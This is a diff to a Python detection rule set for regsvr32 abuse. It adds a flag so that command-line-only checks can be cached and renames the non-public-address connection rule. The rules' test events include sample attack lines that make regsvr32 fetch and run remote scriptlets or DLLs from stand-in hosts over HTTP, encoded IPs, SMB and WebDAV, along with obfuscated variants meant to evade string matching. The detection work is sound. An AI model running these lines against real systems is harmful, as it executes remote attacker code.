@@ -26,7 +26,7 @@ def severity_for(score):
 
 class Rule(object):
     __slots__ = ("id", "title", "description", "techniques", "risk", "sources", "kinds",
-                 "check", "positives", "negatives", "regsvr32_only")
+                 "check", "positives", "negatives", "regsvr32_only", "per_invocation")
 
     def __init__(self, id, title, description, techniques, risk, sources, kinds, check,
                  positives, negatives):
@@ -36,6 +36,8 @@ class Rule(object):
         self.positives, self.negatives = tuple(positives), tuple(negatives)
         # whether the event's own process must be regsvr32 (renamed copies included)
         self.regsvr32_only = getattr(check, "regsvr32_only", False)
+        # whether the check reads only the parsed command line (answers can be remembered)
+        self.per_invocation = getattr(check, "per_invocation", False)
 
     @property
     def severity(self):
@@ -289,7 +291,7 @@ def _connection(public):
         ip, _ = winpath.parse_ip(ev.dest_ip)
         if ip is None or winpath.is_public(ip) != public:
             return None
-        where = "public" if public else "internal"
+        where = "public" if public else "non-public (private, loopback or reserved)"
         return "regsvr32 connected to %s address %s%s" % (
             where, ip, (":" + ev.dest_port) if ev.dest_port else "")
     return check
@@ -475,6 +477,14 @@ def _regsvr32_only(check):
     return check
 
 
+def _of_command_line(check):
+    """Mark a regsvr32 check that reads nothing but the parsed command line (the Invocation,
+    which is the same for the same line, program name and working directory), so its answer
+    can be remembered per Invocation (see Rule.per_invocation)."""
+    check.per_invocation = True
+    return _regsvr32_only(check)
+
+
 # ---------------------------------------------------------------------------------------
 # Example events for the rules' own tests (see tests/test_rules.py).
 
@@ -518,7 +528,7 @@ RULES = (
          "the classic application-control bypass. Requires /i: so that re-registering "
          "scrobj.dll itself (a Windows Script Host repair step) stays quiet.",
          (T,), 85, ("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c",
-                    "Fibratus"), (PROCESS,), _regsvr32_only(squiblydoo),
+                    "Fibratus"), (PROCESS,), _of_command_line(squiblydoo),
          (proc(URL_SCT), proc("regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll"),
           {"EventCode": "4688", "NewProcessName": SYS32, "ParentProcessName": CMD,
            "CommandLine": "regsvr32 /u /s /i:\"http://198.51.100.7/x.sct\" SCROBJ.DLL"}),
@@ -527,14 +537,14 @@ RULES = (
          "A /i: argument or module given as an http, https, ftp or file URL: regsvr32 "
          "downloads and runs it.", (T, "T1105"), 90,
          ("L03", "QOMPLX", "Sigma 867356ee", "Sigma 8e2b24c9"), (PROCESS,),
-         _regsvr32_only(remote_url),
+         _of_command_line(remote_url),
          (proc(URL_SCT), proc("regsvr32 -s -u \"-i:https://cdn.example.net/a.sct\" x.dll"),
           proc("regsvr32 /u /i:file://files.example.org/share/a.sct scrobj.dll")),
          (proc(LOCAL_DLL), proc("regsvr32 /s /n /i:user C:\\x\\a.dll"))),
     Rule("R32-003", "Payload served from a raw or encoded IP address",
          "The URL or share host is an IP literal, in any notation inet_aton accepts: dotted, "
          "hex, octal, one integer, short forms or IPv6.", (T, "T1105"), 90,
-         ("L04", "Sigma 2dd2c217"), (PROCESS,), _regsvr32_only(ip_host),
+         ("L04", "Sigma 2dd2c217"), (PROCESS,), _of_command_line(ip_host),
          (proc(URL_SCT), proc("regsvr32 /s /u /i:http://0x0a010203/a.sct scrobj.dll"),
           proc("regsvr32 /s /u /i:http://[2001:db8::7]/a.sct scrobj.dll"),
           proc("regsvr32 /s \\\\192.0.2.44\\share\\x.dll")),
@@ -542,7 +552,7 @@ RULES = (
     Rule("R32-004", "Scriptlet-style /i: path or URL given to a module other than scrobj.dll",
          "An /i: argument that is a path or URL, handed to some other module: a renamed or "
          "copied scrobj.dll runs scriptlets exactly like the original.", (T,), 70,
-         ("L02", "Elastic EP 0524c24c", "Fibratus"), (PROCESS,), _regsvr32_only(renamed_scrobj),
+         ("L02", "Elastic EP 0524c24c", "Fibratus"), (PROCESS,), _of_command_line(renamed_scrobj),
          (proc("regsvr32 /s /u /i:http://example.com/a.sct C:\\Users\\Public\\x.dll"),
           proc("regsvr32 /u /i:C:\\ProgramData\\a.sct .\\jabber.dll", CurrentDirectory="C:\\ProgramData\\")),
          (proc(URL_SCT), proc("regsvr32 /s /n /i:user \"C:\\Program Files\\A\\b.dll\""))),
@@ -550,7 +560,7 @@ RULES = (
          "With /i and no /n, regsvr32 calls the module's DllInstall and then its "
          "DllRegisterServer (DllUnregisterServer with /u): two entry points of code.", (T,), 30,
          ("L05", "L07", "Sigma b236190c", "Splunk f421c250", "Fibratus"), (PROCESS,),
-         _regsvr32_only(install_without_n),
+         _of_command_line(install_without_n),
          (proc("regsvr32 /s /i \"C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll\""),
           proc("regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll")),
          (proc(URL_SCT), proc(LOCAL_DLL))),
@@ -559,7 +569,7 @@ RULES = (
          "that is not under Windows or Program Files. Reproduces Sigma ce2c44b5 on the parsed "
          "module, so the image path in the command line no longer hides it.", (T,), 40,
          ("L06", "L08", "Sigma ce2c44b5", "Splunk c9ef7dc4"), (PROCESS,),
-         _regsvr32_only(silent_register_outside),
+         _of_command_line(silent_register_outside),
          (proc(SYS32 + " /s C:\\Users\\alice\\Desktop\\x.dll"),
           proc("regsvr32.exe /s payload.dll", CurrentDirectory="C:\\Users\\alice\\Downloads\\"),
           proc(" /s C:\\AtomicRedTeam\\atomics\\T1117\\bin\\AllTheThingsx86.dll")),
@@ -570,7 +580,7 @@ RULES = (
          "Desktop, Documents, Pictures, Music, Windows\\Temp or Windows\\Tasks, after resolving "
          "8.3 names, forward slashes, '..' and %VARIABLES%.", (T,), 55,
          ("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41", "Splunk 62732736"),
-         (PROCESS,), _regsvr32_only(user_writable),
+         (PROCESS,), _of_command_line(user_writable),
          (proc("regsvr32.exe /s C:\\Users\\Public\\payload.dll"),
           proc("regsvr32 /s C:/Users/Public/x.dat"),
           proc("regsvr32 /s C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll"),
@@ -581,7 +591,7 @@ RULES = (
          "the Splunk ESCU seed analytic, fixed to read the module's own extension rather than "
          "any '.dll' anywhere in the line (which 'x.dll.jpg' or a decoy argument defeat).",
          (T,), 70, ("ESCU 62732736", "L09", "L11", "Sigma 4fcac6eb", "Sigma e6eb5a96"),
-         (PROCESS,), _regsvr32_only(writable_non_module),
+         (PROCESS,), _of_command_line(writable_non_module),
          (proc("regsvr32 /s C:\\ProgramData\\x.tmp"),
           proc("regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll.jpg /i:a.dll"),
           proc("regsvr32 -s C:\\Windows\\Temp\\payload")),
@@ -591,7 +601,7 @@ RULES = (
          "FxsTmp, spool folders, MachineKeys, Tasks, the Recycle Bin and other Windows "
          "subfolders that legitimate software does not register modules from.", (T,), 75,
          ("L10", "Sigma 327ff235", "Elastic cff92c41"), (PROCESS,),
-         _regsvr32_only(suspicious_folder),
+         _of_command_line(suspicious_folder),
          (proc("regsvr32 /s C:\\PerfLogs\\a.dll"),
           proc("regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll")),
          (proc(LOCAL_DLL), proc(PF_DLL))),
@@ -599,7 +609,7 @@ RULES = (
          "The module's own extension is one of an image, data, document, log or temp file "
          "(.jpg, .png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing blanks or not.",
          (T, "T1036.008"), 75, ("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
-         (PROCESS,), _regsvr32_only(disguised_extension),
+         (PROCESS,), _of_command_line(disguised_extension),
          (proc(SYS32 + " /s C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"),
           proc("regsvr32.exe -s meow.txt"),
           proc("regsvr32 /s \"C:\\Users\\alice\\AppData\\Local\\Temp\\shell32.jpg\" ")),
@@ -607,12 +617,12 @@ RULES = (
     Rule("R32-011", "Module with an unusual extension",
          "The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a "
          "disguise (R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, .xyz ...",
-         (T,), 40, ("L12", "Sigma 50919691"), (PROCESS,), _regsvr32_only(unusual_extension),
+         (T,), 40, ("L12", "Sigma 50919691"), (PROCESS,), _of_command_line(unusual_extension),
          (proc("regsvr32 /s C:\\Tools\\stage2.exe"), proc("regsvr32 /s x.foo")),
          (proc(LOCAL_DLL), proc("regsvr32 /s C:\\Tools\\stage2"))),
     Rule("R32-012", "Module or scriptlet on a remote SMB share",
          "A UNC path (\\\\host\\share\\...), also after /i:, quoted, or behind \\\\?\\UNC\\.",
-         (T,), 70, ("L13", "Sigma 88a87a10"), (PROCESS,), _regsvr32_only(unc_share),
+         (T,), 70, ("L13", "Sigma 88a87a10"), (PROCESS,), _of_command_line(unc_share),
          (proc("regsvr32 /s \\\\fileserver\\pub\\x.dll"),
           proc("regsvr32 /s /n /u /i:\\\\10.1.2.3\\share\\a.sct scrobj.dll"),
           proc("regsvr32 /s \"\\\\?\\UNC\\host\\share\\x.dll\"")),
@@ -620,7 +630,7 @@ RULES = (
     Rule("R32-013", "Module or scriptlet fetched over WebDAV",
          "A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot folder.",
          (T, "T1105"), 80, ("L13", "Elastic EP 4bdd5646", "Elastic EP 5db08297"), (PROCESS,),
-         _regsvr32_only(webdav),
+         _of_command_line(webdav),
          (proc("regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll"),
           proc("regsvr32 /s \\\\files.example.com@80\\share\\x.dll")),
          (proc(LOCAL_DLL), proc("regsvr32 /s \\\\fileserver\\pub\\x.dll"))),
@@ -696,9 +706,9 @@ RULES = (
          _connection(True),
          (net("151.101.0.133"), net("104.20.208.21", "80")),
          (net("10.0.2.15"), net("151.101.0.133", initiated="false"))),
-    Rule("R32-022", "regsvr32 connected to an internal address",
-         "An outbound connection by regsvr32 to a private, loopback or link-local address: "
-         "internal staging servers and lateral movement; lower risk than a public address.",
+    Rule("R32-022", "regsvr32 connected to a non-public address",
+         "An outbound connection by regsvr32 to a private, loopback, link-local or reserved "
+         "address: internal staging servers and lateral movement; lower risk than a public one.",
          (T,), 30, ("L20", "Sigma c7e91a02"), (NETWORK,), _connection(False),
          (net("10.1.2.3", "445"),), (net("151.101.0.133"),)),
     Rule("R32-023", "regsvr32 resolved a host name",
@@ -712,7 +722,7 @@ RULES = (
          "regsvr32 with nothing to register does nothing by itself: a sacrificial process "
          "for injected code (Cobalt Strike spawnto).", (T, "T1055"), 70,
          ("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"), (PROCESS,),
-         _regsvr32_only(no_arguments),
+         _of_command_line(no_arguments),
          (proc("C:\\Windows\\SysWOW64\\regsvr32.exe", image="C:\\Windows\\SysWOW64\\regsvr32.exe"),
           proc("\"regsvr32.exe\"  ")),
          (proc(LOCAL_DLL), {"EventCode": "4688", "NewProcessName": SYS32, "CommandLine": ""})),
@@ -818,7 +828,7 @@ RULES = (
          "prefixes, NTFS alternate data streams, unexpanded %VARIABLES% or switches run "
          "together (/s/u/i:): forms that only serve to get past substring rules.",
          (T, "T1027.010"), 55, ("L29", "Elastic EP 5db08297"), (PROCESS,),
-         _regsvr32_only(path_syntax),
+         _of_command_line(path_syntax),
          (proc("regsvr32 /s C:/Users/Public/x.dat"), proc("regsvr32 /s C:\\PROGRA~3\\x.dat"),
           proc("regsvr32 /s C:\\Users\\Public\\x.txt:payload.dll"),
           proc("regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll")),
@@ -826,7 +836,7 @@ RULES = (
     Rule("R32-036", "Unicode look-alikes in the command line",
          "Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier letters "
          "in the command line: obfuscation aimed at literal-string rules.", (T, "T1027.010"), 70,
-         ("L30", "Elastic 37148ae6", "Sigma b236190c"), (PROCESS,), _regsvr32_only(unicode_tricks),
+         ("L30", "Elastic 37148ae6", "Sigma b236190c"), (PROCESS,), _of_command_line(unicode_tricks),
          (proc("regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll"),
           proc("regsvr32 /s C:\\x\\\u02b0a.dll")),
          (proc(LOCAL_DLL),)),
@@ -834,7 +844,7 @@ RULES = (
          "The module (resolved against the working directory) is on a drive other than C:, "
          "as when a mounted ISO or USB stick carries the payload. Low risk: servers keep "
          "software on other drives.", (T,), 35, ("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
-         (PROCESS,), _regsvr32_only(other_drive),
+         (PROCESS,), _of_command_line(other_drive),
          (proc("regsvr32 /s E:\\invoice.dll"),
           proc("regsvr32 /s x.dll", CurrentDirectory="D:\\")),
          (proc(LOCAL_DLL),)),
@@ -842,7 +852,7 @@ RULES = (
          "Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry from "
          "AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming).", (T,), 90,
          ("L31", "Sigma 0033cf83", "Sigma bd70d3f8", "Sigma 8acf3cfa"), (PROCESS,),
-         _regsvr32_only(campaign),
+         _of_command_line(campaign),
          (proc("regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll calc"),
           proc("regsvr32 /s C:\\Users\\bob\\AppData\\Local\\x.dll,DllEntry"),
           proc("regsvr32 /s /i C:\\Users\\bob\\AppData\\Roaming\\a.ocx")),
@@ -852,7 +862,7 @@ RULES = (
          "ProgramData and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ "
          "(Sigma 327ff235's second branch, on the parsed module). Low risk on its own: line-of-"
          "business software lives in such folders too.", (T,), 35, ("L10", "Sigma 327ff235"),
-         (PROCESS,), _regsvr32_only(unusual_folder),
+         (PROCESS,), _of_command_line(unusual_folder),
          (proc("regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll"),
           proc("regsvr32 /u x.dll", CurrentDirectory="C:\\Tools\\")),
          (proc(LOCAL_DLL), proc(PF_DLL), proc("regsvr32 /s C:\\Users\\Public\\x.dll"))),
